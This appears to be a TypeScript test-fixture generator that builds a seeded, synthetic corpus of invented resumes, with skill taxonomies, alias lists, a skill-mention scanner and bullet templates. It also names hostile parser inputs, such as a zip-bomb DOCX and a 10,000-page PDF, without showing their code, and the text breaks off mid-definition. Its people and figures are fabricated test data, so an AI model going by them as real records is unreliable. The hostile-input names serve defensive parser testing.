/**
 * A labelled, generated resume corpus for the resume parser and scorer: invented people rendered as one-column PDFs,
 * two-column PDFs, DOCX and plain text, each with its ground truth; brief/resume pairs for fit scoring (a strong and a
 * weak candidate per brief, some weak ones keyword stuffers); and hostile files (zip bomb, 10,000-page PDF, ...).
 *
 * Everything is deterministic: every file draws from its own seeded PRNG (mulberry32 keyed by the file's id), pdfkit
 * gets a fixed CreationDate, and DOCX files are re-zipped with fixed timestamps. Imported by vitest tests and by
 * benchmarks run with Node's type stripping, so only erasable TypeScript is used here.
 */
import { createRequire } from 'node:module';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import zlib from 'node:zlib';
import { parsePhoneNumberFromString } from 'libphonenumber-js';
import {
  AlignmentType, Document, Header, HeadingLevel, LevelFormat, Packer, Paragraph, Tab, TabStopType, Table, TableBorders,
  TableCell, TableRow, TextRun, WidthType,
} from 'docx';
import type { ParsedResume } from '../../src/modules/resumes/types.js';

// ---------------------------------------------------------------------------------------------------------------------
// Public types

export type CorpusFormat = 'pdf-1col' | 'pdf-2col' | 'docx' | 'txt';

export interface ResumeTruth {
  name: string;
  email: string;
  /** E.164, e.g. +14155550123, +442079460958, +919812345678. */
  phone: string;
  /** In document order (newest first). `start`/`end` are `YYYY-MM`; a year written alone is its January. */
  experience: { company: string; title: string; start: string; end: string | null }[];
  education: { institution: string; degree: string; field: string; end: string }[];
  /** Canonical taxonomy names of every skill listed in the skills section or mentioned anywhere in the text. */
  skills: string[];
}

export interface CorpusFile { id: string; format: CorpusFormat; bytes: Buffer; truth: ResumeTruth; pages: number }

export interface FitPair { brief: { role: string; job_description: string }; strong: CorpusFile; weak: CorpusFile; note: string }

export type HostileName =
  | 'zipBombDocx' | 'tenThousandPagesPdf' | 'endlessPdf' | 'truncatedPdf' | 'encryptedPdf' | 'scannedPdf' | 'polyglot'
  | 'emptyPdf' | 'tooLittleText' | 'binaryJunk' | 'hiddenTextPdf' | 'manyHeadersDocx';

// ---------------------------------------------------------------------------------------------------------------------
// Seeded randomness

interface Rng {
  next(): number;
  int(lo: number, hi: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
  shuffle<T>(items: readonly T[]): T[];
  sample<T>(items: readonly T[], n: number): T[];
}

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function hashSeed(key: string): number {
  let h = 0x811c9dc5;
  for (const ch of key) h = Math.imul(h ^ (ch.codePointAt(0) ?? 0), 0x01000193) >>> 0;
  return h;
}

function makeRng(key: string): Rng {
  const next = mulberry32(hashSeed(key));
  const rng: Rng = {
    next,
    int: (lo, hi) => lo + Math.floor(next() * (hi - lo + 1)),
    pick: (items) => items[Math.floor(next() * items.length)],
    chance: (p) => next() < p,
    shuffle: (items) => {
      const a = [...items];
      for (let i = a.length - 1; i > 0; i--) {
        const j = Math.floor(next() * (i + 1));
        [a[i], a[j]] = [a[j], a[i]];
      }
      return a;
    },
    sample: (items, n) => rng.shuffle(items).slice(0, Math.max(0, n)),
  };
  return rng;
}

const digits = (rng: Rng, n: number): string => Array.from({ length: n }, () => String(rng.int(0, 9))).join('');

// ---------------------------------------------------------------------------------------------------------------------
// Skills: the allowed canonical names, how resumes write them, and a scanner for mentions

/** The canonical names truth may use (the taxonomy contains all of them). */
export const ALLOWED_SKILLS: readonly string[] = [
  'JavaScript', 'TypeScript', 'Python', 'Java', 'Go', 'C++', 'C#', 'Ruby', 'Ruby on Rails', 'PHP', 'Rust', 'Kotlin', 'Swift',
  'Scala', 'SQL', 'PostgreSQL', 'MySQL', 'MongoDB', 'Redis', 'Elasticsearch', 'Kafka', 'RabbitMQ', 'Apache Spark', 'Airflow',
  'dbt', 'Snowflake', 'BigQuery', 'Tableau', 'Power BI', 'Excel', 'React', 'Angular', 'Vue.js', 'Next.js', 'Node.js', 'Express',
  'Django', 'Flask', 'FastAPI', 'Spring Boot', '.NET', 'GraphQL', 'REST APIs', 'gRPC', 'HTML', 'CSS', 'Tailwind CSS', 'Redux',
  'Docker', 'Kubernetes', 'Terraform', 'Ansible', 'Jenkins', 'GitHub Actions', 'CI/CD', 'AWS', 'Microsoft Azure',
  'Google Cloud Platform', 'Linux', 'Bash', 'Git', 'TensorFlow', 'PyTorch', 'scikit-learn', 'Pandas', 'NumPy',
  'Machine Learning', 'Deep Learning', 'Natural Language Processing', 'Data Analysis', 'Jira', 'Figma', 'Agile', 'Scrum',
  'Leadership', 'Project Management', 'Microservices', 'Distributed Systems', 'Jest', 'Cypress', 'Selenium', 'iOS', 'Android',
  'React Native', 'Flutter', 'Prometheus', 'Grafana',
];

/** What a skill is, for picking bullet templates that fit it. */
const KIND: Record<string, string> = {
  JavaScript: 'lang', TypeScript: 'lang', Python: 'lang', Java: 'lang', Go: 'lang', 'C++': 'lang', 'C#': 'lang', Ruby: 'lang',
  PHP: 'lang', Rust: 'lang', Kotlin: 'lang', Swift: 'lang', Scala: 'lang', SQL: 'sql', PostgreSQL: 'db', MySQL: 'db',
  MongoDB: 'db', Redis: 'cache', Elasticsearch: 'search', Kafka: 'queue', RabbitMQ: 'queue', 'Apache Spark': 'etl',
  Airflow: 'orch', dbt: 'model', Snowflake: 'warehouse', BigQuery: 'warehouse', Tableau: 'bi', 'Power BI': 'bi', Excel: 'sheet',
  React: 'fe', Angular: 'fe', 'Vue.js': 'fe', 'Next.js': 'fe', Redux: 'state', 'Node.js': 'be', Express: 'be', Django: 'be',
  Flask: 'be', FastAPI: 'be', 'Spring Boot': 'be', '.NET': 'be', 'Ruby on Rails': 'be', GraphQL: 'api', 'REST APIs': 'api',
  gRPC: 'api', HTML: 'markup', CSS: 'markup', 'Tailwind CSS': 'markup', Docker: 'container', Kubernetes: 'container',
  Terraform: 'iac', Ansible: 'iac', Jenkins: 'ci', 'GitHub Actions': 'ci', 'CI/CD': 'cicd', AWS: 'cloud', 'Microsoft Azure': 'cloud',
  'Google Cloud Platform': 'cloud', Linux: 'os', Bash: 'shell', Git: 'vcs', TensorFlow: 'mlfw', PyTorch: 'mlfw',
  'scikit-learn': 'mlfw', Pandas: 'pydata', NumPy: 'pydata', 'Machine Learning': 'mlfield', 'Deep Learning': 'mlfield',
  'Natural Language Processing': 'mlfield', 'Data Analysis': 'analysis', Jira: 'tracker', Figma: 'design', Agile: 'process',
  Scrum: 'process', Leadership: 'lead', 'Project Management': 'pm', Microservices: 'msvc', 'Distributed Systems': 'dist',
  Jest: 'test', Cypress: 'test', Selenium: 'test', iOS: 'mobileos', Android: 'mobileos', 'React Native': 'mobilefw',
  Flutter: 'mobilefw', Prometheus: 'obs', Grafana: 'obs',
};
const KINDS = new Set(Object.values(KIND));

/** Other spellings a resume uses (in lists and prose). Truth stays canonical. */
const ALIASES: Record<string, string[]> = {
  JavaScript: ['JS', 'Javascript'], TypeScript: ['Typescript'], Python: ['Python 3'], Go: ['Golang', 'Go (golang)'],
  'Ruby on Rails': ['Rails', 'RoR'], PostgreSQL: ['Postgres'], Elasticsearch: ['ElasticSearch'], Kafka: ['Apache Kafka'],
  'Apache Spark': ['Spark'], Airflow: ['Apache Airflow'], BigQuery: ['Google BigQuery'], 'Power BI': ['PowerBI', 'Microsoft Power BI'],
  Excel: ['Microsoft Excel', 'MS Excel'], React: ['ReactJS', 'React.js'], 'Vue.js': ['Vue', 'VueJS'], 'Next.js': ['NextJS'],
  'Node.js': ['NodeJS', 'Node'], Express: ['Express.js', 'ExpressJS'], '.NET': ['.NET Core'],
  'REST APIs': ['REST', 'RESTful APIs'], HTML: ['HTML5'], CSS: ['CSS3'], 'Tailwind CSS': ['Tailwind', 'TailwindCSS'],
  Redux: ['Redux Toolkit'], Kubernetes: ['k8s', 'K8s'], AWS: ['Amazon Web Services'], 'Microsoft Azure': ['Azure'],
  'Google Cloud Platform': ['GCP', 'Google Cloud'], 'scikit-learn': ['sklearn', 'Scikit-learn'], 'Natural Language Processing': ['NLP'],
  Selenium: ['Selenium WebDriver'], Jira: ['JIRA'], Leadership: ['Team Leadership'], 'CI/CD': ['CI/CD pipelines'],
};
/** How prose writes concepts (lower case); lists use the canonical name. */
const PROSE: Record<string, string[]> = {
  Go: ['Go (golang)', 'Golang'], 'Machine Learning': ['machine learning'], 'Deep Learning': ['deep learning'],
  'Natural Language Processing': ['natural language processing', 'NLP'], 'Data Analysis': ['data analysis'],
  'Project Management': ['project management'], 'Distributed Systems': ['distributed systems'], Microservices: ['microservices'],
  Leadership: ['team leadership', 'leadership'], Agile: ['Agile'], Scrum: ['Scrum'], 'REST APIs': ['REST APIs', 'RESTful APIs'],
};
/** Aliases that are also ordinary words (or too short) are matched case-sensitively. */
const CASE_SENSITIVE = new Set(['Go', 'Swift', 'Excel', 'Rust', 'Ruby', 'Express', 'Spark', 'Jest', 'Flask', 'Node', 'Rails', 'REST', 'NLP', 'Snowflake', 'RoR', 'JS']);

const NBSP = '\u00a0';
/** Skill phrases carry no-break spaces until output so that wrapping never splits "Google Cloud Platform". */
const glue = (s: string): string => s.replace(/ /g, NBSP);
const clean = (s: string): string => s.replace(/\u00a0/g, ' ');

function skillText(rng: Rng, canonical: string, where: 'list' | 'prose', aliasRate: number): string {
  const prose = where === 'prose' ? PROSE[canonical] : undefined;
  const options = prose ?? [canonical, ...(ALIASES[canonical] ?? [])];
  const chosen = options.length > 1 && rng.chance(prose ? 0.35 : aliasRate) ? rng.pick(options.slice(1)) : options[0];
  return glue(chosen);
}

interface SkillPattern { re: RegExp; canonical: string; length: number }
const escapeRe = (s: string): string => s.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
const SKILL_PATTERNS: SkillPattern[] = (() => {
  const out: SkillPattern[] = [];
  for (const canonical of ALLOWED_SKILLS) {
    const forms = new Set([canonical, ...(ALIASES[canonical] ?? []), ...(PROSE[canonical] ?? [])]);
    for (const form of forms) {
      const body = escapeRe(form).replace(/ /g, '\\s+');
      const flags = CASE_SENSITIVE.has(form) ? 'gu' : 'giu';
      out.push({ re: new RegExp(`(?<![\\p{L}\\p{N}_.])${body}(?![\\p{L}\\p{N}_+#])`, flags), canonical, length: form.length });
    }
  }
  return out.sort((a, b) => b.length - a.length);
})();

/**
 * Canonical names of the skills a text mentions, longest match first ("React Native" is not also "React", "Tailwind CSS"
 * is not also "CSS"). The corpus's truth equals this scan of each file's text; the parser may use it as a reference.
 */
export function mentionedSkills(text: string): string[] {
  const t = clean(text);
  const taken = new Uint8Array(t.length);
  const found = new Set<string>();
  for (const p of SKILL_PATTERNS) {
    for (const m of t.matchAll(p.re)) {
      const start = m.index ?? 0;
      const end = start + m[0].length;
      if (taken.subarray(start, end).some((v) => v === 1)) continue;
      taken.fill(1, start, end);
      found.add(p.canonical);
    }
  }
  return [...found].sort();
}

// ---------------------------------------------------------------------------------------------------------------------
// Bullet templates. `{kind}` slots take a skill of that kind; other slots are numbers.

const SKILL_TEMPLATES: string[] = [
  'Built {lang} services that process {big} events a day at {nines} uptime',
  'Rewrote a legacy billing module in {lang}, cutting batch run time from {hrs} hours to {min} minutes',
  'Wrote internal {lang} tooling that automated {pct}% of manual release steps',
  'Developed {be} services in {lang} for {k}K monthly active users',
  'Designed {be} endpoints serving {big} requests a day with p99 latency under {ms} ms',
  'Moved {num} legacy modules onto {be}, cutting onboarding time for new hires by {pct}%',
  'Wrote {sql} reports that replaced {num} manual workbooks for the finance team',
  'Queried and reshaped {num2} source tables with {sql} for the growth team',
  'Tuned {db} queries and indexes, lowering average response time by {pct}%',
  'Migrated {num} TB of records from a legacy store to {db} with zero downtime',
  'Put {cache} in front of the main database, cutting its load by {pct}%',
  'Built product search on {search} over {big} documents with a median latency of {ms} ms',
  'Built event pipelines on {queue} handling {big} messages a day',
  'Built {etl} jobs that process {num} TB of raw events every night',
  'Scheduled {num2} daily pipelines in {orch} with automatic retries and alerting',
  'Modelled {num} core business entities with {model}, used by {num2} analysts',
  'Moved the reporting warehouse to {warehouse}, cutting query costs by {pct}%',
  'Built {bi} reports tracking {num} metrics for the executive team',
  'Replaced {num} static monthly reports with self-service {bi} views',
  'Automated weekly reporting in {sheet}, saving {hrs} hours of manual work a week',
  'Built {sheet} forecasting models accurate to within {pct}% of actual demand',
  'Built a set of {num2} shared {fe} widgets adopted by {num} product teams',
  'Rebuilt the checkout flow in {fe}, lifting conversion by {pct}%',
  'Improved page load times by {pct}% by reworking {fe} rendering',
  'Moved shared client state to {state}, removing {num} classes of display bugs',
  'Published {api} interfaces used by {num} partner integrations',
  'Replaced {num} ad-hoc endpoints with a versioned {api} layer',
  'Rebuilt {num} marketing pages with {markup}, cutting page weight by {pct}%',
  'Containerised {num} services with {container}, cutting deploy time from {hrs} hours to {min} minutes',
  'Ran {num} production clusters on {container} at {nines} availability',
  'Codified {num} environments with {iac}, removing manual server setup',
  'Set up {ci} pipelines that run {k}K builds a month',
  'Introduced {cicd} for {num2} repositories, moving releases from weekly to daily',
  'Moved {num} workloads to {cloud}, reducing hosting spend by {usd} a year',
  'Designed a multi-region {cloud} setup with {nines} availability',
  'Hardened {num2} {os} hosts and automated patching for the whole fleet',
  'Automated server maintenance with {shell} scripts, saving {hrs} hours a week',
  'Cleaned up {num} {vcs} repositories and added protected branches and signed commits',
  'Trained {mlfw} models that improved recommendation click-through by {pct}%',
  'Served {mlfw} models behind a low-latency API scoring {big} requests a day',
  'Applied {mlfield} to fraud detection, catching {pct}% more fraudulent orders',
  'Used {mlfield} to improve search ranking, lifting relevance by {pct}%',
  'Cleaned and joined {num} datasets with {pydata} for pricing studies',
  'Used {analysis} to find a pricing leak worth {usd} a year',
  'Led {analysis} for {num} launches, presenting findings to senior staff',
  'Ran weekly planning in {tracker} for a team of {team}',
  'Tracked {num2} customer issues a month in {tracker} with clear owners and due dates',
  'Designed {num} end-to-end product flows in {design}, checked with {num2} customers',
  'Introduced {process} rituals across {num} teams, raising delivery predictability by {pct}%',
  'Coached {team} teams on {process}, cutting cycle time by {pct}%',
  'Recognised for {lead} after growing the group from {team} to {team2} people',
  'Applied {pm} methods to deliver {num} launches on schedule',
  'Split a monolith into {num} {msvc}, each with a clear owner',
  'Worked on {dist} for order routing across {num} regions',
  'Raised automated test coverage from {pct}% to {pct2}% with {test}',
  'Wrote {num}0+ end-to-end suites in {test}, reducing escaped defects by {pct}%',
  'Shipped {num} releases of the {mobileos} app with a {rating} store rating',
  'Cut the {mobileos} app crash rate by {pct}% across {big} monthly users',
  'Built a cross-platform app in {mobilefw} used by {big} customers',
  'Set up {obs} alerting that reduced mean time to recovery by {pct}%',
];

const GENERIC: Record<string, string[]> = {
  common: [
    'Presented quarterly results to {num} senior stakeholders',
    'Onboarded and trained {team} new colleagues',
    'Documented {num2} key processes so that new starters could work without supervision',
    'Cut recurring costs by {pct}% by renegotiating {num} supplier contracts',
    'Raised team satisfaction scores by {pct}% year over year',
    'Volunteered as a mentor in a {num}-month internal programme',
  ],
  eng: [
    'Cut on-call pages by {pct}% by fixing the {num} noisiest alerts',
    'Mentored {team} junior engineers, two of whom were promoted within a year',
    'Wrote the design document for a new payments flow reviewed by {num} teams',
    'Reduced hosting costs by {usd} a year through right-sizing and cleanup',
    'Owned the incident review process for {num2} production services',
    'Partnered with product managers to scope and ship {num} features per quarter',
    'Interviewed {num2} candidates and helped grow the team from {team} to {team2} engineers',
  ],
  frontend: [
    'Worked with designers to ship a new onboarding flow that lifted activation by {pct}%',
    'Fixed {num} screen-reader issues on the busiest pages',
    'Reduced bundle size by {pct}% with code splitting and lazy loading',
    'Ran {num} pricing page trials with the growth team',
  ],
  data: [
    'Added checks that caught {num} upstream schema breaks before release',
    'Cut warehouse spend by {usd} a year by pruning unused tables',
    'Documented {num} core datasets for self-service use by {num2} analysts',
    'Reduced the time to land a new data source from {num} days to {hrs} hours',
  ],
  ml: [
    'Ran {num} online experiments to validate model changes before rollout',
    'Wrote {num} internal research notes on ranking and retrieval',
    'Built a shared store of model inputs used by {num} teams',
    'Cut false positives in the risk review queue by {pct}%',
  ],
  ops: [
    'Kept {nines} uptime across {num2} customer-facing services',
    'Cut monthly infrastructure spend by {usd}',
    'Ran quarterly disaster recovery drills for {num} critical systems',
    'Reduced mean time to recovery from {hrs} hours to {min} minutes',
    'Wrote {num} runbooks adopted by the on-call rotation',
  ],
  mobile: [
    'Raised the app store rating from 3.{d} to 4.{d2} in {num} months',
    'Cut app cold start time by {pct}%',
    'Shipped an offline mode used by {pct}% of daily users',
    'Worked with designers on {num} fixes for screen-reader users',
  ],
  analyst: [
    'Presented monthly insights to {num} department heads',
    'Found {usd} in annual savings by auditing vendor contracts',
    'Defined {num} metrics used in quarterly business reviews',
    'Answered {num2}+ ad-hoc data requests a quarter from sales and finance',
  ],
  manager: [
    'Grew the team from {team} to {team2} engineers across {num} time zones',
    'Ran hiring for {num} roles with offer acceptance at {pct}%',
    'Set quarterly goals with {num} product teams and hit {pct}% of key results',
    'Kept regretted attrition at zero over two years',
    'Introduced career ladders and a {num}-step onboarding plan',
  ],
  designer: [
    'Spoke with {num2} customers to shape the onboarding redesign',
    'Built a kit of {num2} reusable interface parts used across {num} products',
    'Lifted task completion in usability tests by {pct}%',
    'Ran design critiques for a team of {team} designers',
    'Redesigned the mobile checkout, cutting drop-off by {pct}%',
  ],
  qa: [
    'Triaged {num2} bug reports a week with product and engineering',
    'Cut the pre-release check time from {hrs} hours to {min} minutes',
    'Defined release quality gates for {num} services',
    'Wrote {num2} manual test plans for payment and refund flows',
  ],
  pm: [
    'Delivered {num} projects on time and {pct}% under budget',
    'Coordinated {num} teams across {team} time zones',
    'Managed a portfolio budget of {usd}',
    'Ran weekly risk reviews with {num2} stakeholders',
    'Cut average delivery time by {pct}% by removing approval steps',
  ],
  vague: [
    'Took part in daily team meetings',
    'Fixed {num} small bugs reported by users',
    'Helped keep the company website up to date',
    'Completed a {num}-week internal onboarding programme',
    'Wrote how-to guides for {num} internal tools',
    'Answered questions from colleagues about office equipment',
    'Assisted the team with testing before releases',
    'Shadowed senior staff on {num} client projects',
  ],
  marketing: [
    'Planned {num} email campaigns a quarter, lifting open rates by {pct}%',
    'Grew social media following by {pct}% in one year',
    'Managed a quarterly ad budget of {usd}',
    'Organised {num} trade show appearances that produced {num2}0 qualified leads',
    'Wrote {num2} blog posts that doubled organic traffic',
  ],
  sales: [
    'Closed {usd} in new business in the first year',
    'Beat quota by {pct}% for {num} consecutive quarters',
    'Built a pipeline of {num2} qualified accounts',
    'Onboarded {num} enterprise customers with a {pct2}% renewal rate',
  ],
  support: [
    'Resolved {num2}+ customer tickets a week with a {pct2}% satisfaction score',
    'Wrote {num} help centre articles that cut repeat tickets by {pct}%',
    'Trained {team} new support hires',
    'Handled escalations for {num} key accounts',
  ],
  teacher: [
    'Taught {num} classes a week to students aged 14 to 18',
    'Raised exam pass rates by {pct}% over two years',
    'Organised a regional maths competition for {num} schools',
    'Ran the after-school coding club for {num2} students',
  ],
  retail: [
    'Managed a team of {team} staff and weekly sales of {usd}',
    'Cut stock shrinkage by {pct}% with new counting routines',
    'Trained {team2} new hires on service standards and till procedures',
    'Raised average basket size by {pct}% with new displays',
  ],
  accounting: [
    'Closed monthly books for {num} entities within {team} working days',
    'Reconciled {num2} accounts a month with zero audit findings',
    'Cut invoice processing time by {pct}%',
    'Prepared quarterly VAT returns for {num} companies',
  ],
};

interface Family {
  titles: [string[], string[], string[]];
  pool: string[];
  generic: string[];
  fields: string[];
  tech: boolean;
  domain: string;
  /** What the summary calls the person (titles carry words such as "Backend" that the taxonomy knows). */
  noun: string;
}

const FAMILIES: Record<string, Family> = {
  backend: {
    titles: [['Junior Software Engineer', 'Software Engineer I', 'Junior Backend Developer'], ['Software Engineer', 'Backend Engineer', 'Backend Developer', 'Software Developer'], ['Senior Software Engineer', 'Senior Backend Engineer', 'Staff Software Engineer', 'Lead Backend Engineer', 'Principal Engineer']],
    pool: ['Java', 'Spring Boot', 'Go', 'Python', 'Django', 'FastAPI', 'Node.js', 'TypeScript', 'PostgreSQL', 'MySQL', 'Redis', 'Kafka', 'RabbitMQ', 'Docker', 'Kubernetes', 'AWS', 'REST APIs', 'gRPC', 'Microservices', 'Distributed Systems', 'GraphQL', 'Linux', 'Git', 'CI/CD', 'Elasticsearch', 'MongoDB'],
    generic: ['eng'], fields: ['Computer Science', 'Software Engineering', 'Computer Engineering', 'Mathematics'], tech: true, domain: 'high-traffic services', noun: 'software engineer',
  },
  frontend: {
    titles: [['Junior Front-End Developer', 'Junior Web Developer', 'Front-End Intern'], ['Front-End Engineer', 'Frontend Developer', 'Web Developer'], ['Senior Front-End Engineer', 'Senior Frontend Developer', 'Lead Web Engineer', 'Staff Frontend Engineer']],
    pool: ['JavaScript', 'TypeScript', 'React', 'Redux', 'Next.js', 'Angular', 'Vue.js', 'HTML', 'CSS', 'Tailwind CSS', 'Jest', 'Cypress', 'GraphQL', 'Node.js', 'Figma', 'Git', 'REST APIs'],
    generic: ['frontend', 'eng'], fields: ['Computer Science', 'Information Systems', 'Media Technology', 'Software Engineering'], tech: true, domain: 'fast web applications', noun: 'software engineer',
  },
  fullstack: {
    titles: [['Junior Full-Stack Developer', 'Web Development Intern'], ['Full-Stack Developer', 'Full Stack Engineer', 'Software Engineer'], ['Senior Full-Stack Engineer', 'Lead Full Stack Developer', 'Senior Software Engineer']],
    pool: ['JavaScript', 'TypeScript', 'React', 'Node.js', 'Express', 'PostgreSQL', 'MongoDB', 'Docker', 'AWS', 'GraphQL', 'Next.js', 'PHP', 'MySQL', 'HTML', 'CSS', 'Redis', 'Jest', 'REST APIs'],
    generic: ['eng', 'frontend'], fields: ['Computer Science', 'Software Engineering', 'Information Technology'], tech: true, domain: 'web products end to end', noun: 'software engineer',
  },
  dataeng: {
    titles: [['Junior Data Engineer', 'Data Engineering Intern', 'Reporting Developer'], ['Data Engineer', 'Analytics Engineer'], ['Senior Data Engineer', 'Lead Data Engineer', 'Staff Data Engineer', 'Data Platform Lead']],
    pool: ['Python', 'SQL', 'Apache Spark', 'Airflow', 'dbt', 'Snowflake', 'BigQuery', 'Kafka', 'PostgreSQL', 'AWS', 'Google Cloud Platform', 'Scala', 'Docker', 'Terraform', 'Pandas', 'Git'],
    generic: ['data', 'eng'], fields: ['Computer Science', 'Statistics', 'Information Systems', 'Mathematics'], tech: true, domain: 'reliable data platforms', noun: 'data engineer',
  },
  ml: {
    titles: [['Junior Data Scientist', 'Research Intern', 'Machine Learning Intern'], ['Data Scientist', 'Machine Learning Engineer', 'Applied Scientist'], ['Senior Machine Learning Engineer', 'Senior Data Scientist', 'Lead Data Scientist', 'Staff Applied Scientist']],
    pool: ['Python', 'TensorFlow', 'PyTorch', 'scikit-learn', 'Pandas', 'NumPy', 'Machine Learning', 'Deep Learning', 'Natural Language Processing', 'SQL', 'Docker', 'Kubernetes', 'AWS', 'Apache Spark', 'Airflow', 'Git'],
    generic: ['ml', 'data'], fields: ['Computer Science', 'Statistics', 'Econometrics', 'Physics'], tech: true, domain: 'models that ship to production', noun: 'applied scientist',
  },
  devops: {
    titles: [['Junior Systems Administrator', 'IT Operations Intern', 'Junior DevOps Engineer'], ['DevOps Engineer', 'Systems Administrator', 'Cloud Engineer', 'Site Reliability Engineer', 'Infrastructure Engineer'], ['Senior DevOps Engineer', 'Senior Site Reliability Engineer', 'Lead Platform Engineer', 'Staff Infrastructure Engineer']],
    pool: ['Linux', 'Bash', 'Terraform', 'Ansible', 'Kubernetes', 'Docker', 'Jenkins', 'GitHub Actions', 'CI/CD', 'AWS', 'Microsoft Azure', 'Google Cloud Platform', 'Prometheus', 'Grafana', 'Python', 'Go', 'Git'],
    generic: ['ops', 'eng'], fields: ['Computer Science', 'Information Technology', 'Electrical Engineering', 'Telecommunications'], tech: true, domain: 'keeping large platforms running', noun: 'infrastructure engineer',
  },
  ios: {
    titles: [['Junior iOS Developer', 'Mobile Development Intern'], ['iOS Developer', 'iOS Engineer', 'Mobile Developer'], ['Senior iOS Engineer', 'Lead iOS Developer', 'Staff Mobile Engineer']],
    pool: ['Swift', 'iOS', 'Git', 'REST APIs', 'Jira', 'Figma', 'CI/CD', 'GraphQL'],
    generic: ['mobile', 'eng'], fields: ['Computer Science', 'Software Engineering'], tech: true, domain: 'polished phone apps', noun: 'app developer',
  },
  android: {
    titles: [['Junior Android Developer', 'Mobile Development Intern'], ['Android Developer', 'Android Engineer', 'Mobile Developer'], ['Senior Android Engineer', 'Lead Android Developer', 'Staff Mobile Engineer']],
    pool: ['Kotlin', 'Java', 'Android', 'Git', 'REST APIs', 'GraphQL', 'CI/CD', 'Jira'],
    generic: ['mobile', 'eng'], fields: ['Computer Science', 'Software Engineering', 'Computer Engineering'], tech: true, domain: 'fast, reliable phone apps', noun: 'app developer',
  },
  mobilex: {
    titles: [['Junior Mobile Developer', 'Mobile Development Intern'], ['Mobile Developer', 'Mobile Engineer', 'App Developer'], ['Senior Mobile Engineer', 'Lead Mobile Developer']],
    pool: ['React Native', 'Flutter', 'JavaScript', 'TypeScript', 'iOS', 'Android', 'Redux', 'Jest', 'REST APIs', 'Git'],
    generic: ['mobile', 'eng'], fields: ['Computer Science', 'Software Engineering'], tech: true, domain: 'apps that run on every phone', noun: 'app developer',
  },
  analyst: {
    titles: [['Junior Data Analyst', 'Reporting Intern', 'Operations Analyst'], ['Data Analyst', 'Insights Analyst', 'Reporting Analyst'], ['Senior Data Analyst', 'Lead Insights Analyst', 'Head of Reporting']],
    pool: ['SQL', 'Excel', 'Tableau', 'Power BI', 'Python', 'Pandas', 'Data Analysis', 'BigQuery', 'Snowflake', 'Jira'],
    generic: ['analyst'], fields: ['Economics', 'Statistics', 'Mathematics', 'Business Administration'], tech: true, domain: 'turning data into decisions', noun: 'data analyst',
  },
  manager: {
    titles: [['Software Engineer', 'Software Developer'], ['Senior Software Engineer', 'Lead Software Engineer', 'Staff Engineer'], ['Engineering Manager', 'Senior Engineering Manager', 'Head of Engineering', 'Director of Engineering']],
    pool: ['Leadership', 'Agile', 'Scrum', 'Project Management', 'Jira', 'Microservices', 'AWS', 'Java', 'Python', 'Distributed Systems', 'Kubernetes'],
    generic: ['manager', 'eng'], fields: ['Computer Science', 'Software Engineering', 'Electrical Engineering'], tech: true, domain: 'growing engineering teams', noun: 'engineering manager',
  },
  designer: {
    titles: [['Junior Visual Designer', 'Design Intern', 'Junior Product Designer'], ['Product Designer', 'Digital Designer', 'App Designer'], ['Senior Product Designer', 'Lead Product Designer', 'Principal Designer', 'Design Manager']],
    pool: ['Figma', 'HTML', 'CSS', 'Agile', 'Jira'],
    generic: ['designer'], fields: ['Fine Arts', 'Cognitive Science', 'Industrial Design', 'Psychology'], tech: true, domain: 'designing products people enjoy', noun: 'product designer',
  },
  qa: {
    titles: [['Junior QA Analyst', 'QA Intern', 'Software Tester'], ['QA Engineer', 'QA Automation Engineer', 'Test Engineer', 'Software Development Engineer in Test'], ['Senior QA Engineer', 'Lead QA Automation Engineer', 'QA Manager']],
    pool: ['Selenium', 'Cypress', 'Jest', 'Java', 'Python', 'JavaScript', 'CI/CD', 'Jenkins', 'Jira', 'SQL', 'Agile', 'Git', 'REST APIs'],
    generic: ['qa', 'eng'], fields: ['Computer Science', 'Information Technology', 'Mathematics'], tech: true, domain: 'release quality', noun: 'test engineer',
  },
  pm: {
    titles: [['Project Coordinator', 'Project Administrator', 'PMO Analyst'], ['Project Manager', 'Technical Project Manager', 'Delivery Manager'], ['Senior Project Manager', 'Program Manager', 'Senior Technical Program Manager', 'Head of Delivery']],
    pool: ['Project Management', 'Agile', 'Scrum', 'Jira', 'Excel', 'Leadership', 'Power BI'],
    generic: ['pm'], fields: ['Business Administration', 'Management', 'Industrial Engineering', 'Economics'], tech: true, domain: 'delivering technical programmes', noun: 'project manager',
  },
  dotnet: {
    titles: [['Junior Software Developer', 'Junior .NET Developer'], ['Software Developer', '.NET Developer', 'C# Developer', 'Software Engineer'], ['Senior .NET Engineer', 'Senior Software Developer', 'Lead .NET Developer']],
    pool: ['C#', '.NET', 'Microsoft Azure', 'SQL', 'REST APIs', 'Microservices', 'Docker', 'Git', 'Angular', 'TypeScript', 'Redis'],
    generic: ['eng'], fields: ['Computer Science', 'Software Engineering', 'Information Systems'], tech: true, domain: 'business applications on the Microsoft stack', noun: 'software developer',
  },
  rails: {
    titles: [['Junior Web Developer', 'Junior Rails Developer'], ['Ruby on Rails Developer', 'Backend Developer', 'Rails Engineer'], ['Senior Rails Engineer', 'Senior Ruby on Rails Developer', 'Lead Backend Engineer']],
    pool: ['Ruby', 'Ruby on Rails', 'PostgreSQL', 'Redis', 'JavaScript', 'Docker', 'AWS', 'REST APIs', 'Git', 'RabbitMQ'],
    generic: ['eng'], fields: ['Computer Science', 'Software Engineering', 'Physics'], tech: true, domain: 'web products', noun: 'web developer',
  },
  systems: {
    titles: [['Junior Software Engineer', 'Graduate Engineer'], ['Software Engineer', 'Systems Engineer', 'C++ Developer'], ['Senior Systems Engineer', 'Senior Software Engineer', 'Principal Software Engineer']],
    pool: ['C++', 'Rust', 'Linux', 'Distributed Systems', 'Python', 'Git', 'Bash', 'Docker', 'Kubernetes', 'gRPC'],
    generic: ['eng', 'ops'], fields: ['Computer Science', 'Computer Engineering', 'Electrical Engineering'], tech: true, domain: 'low-latency systems software', noun: 'systems engineer',
  },
  vague: {
    titles: [['Junior Developer', 'IT Intern', 'Web Assistant', 'Trainee Developer', 'Office IT Assistant'], ['Junior Developer', 'Office IT Assistant'], ['Junior Developer']],
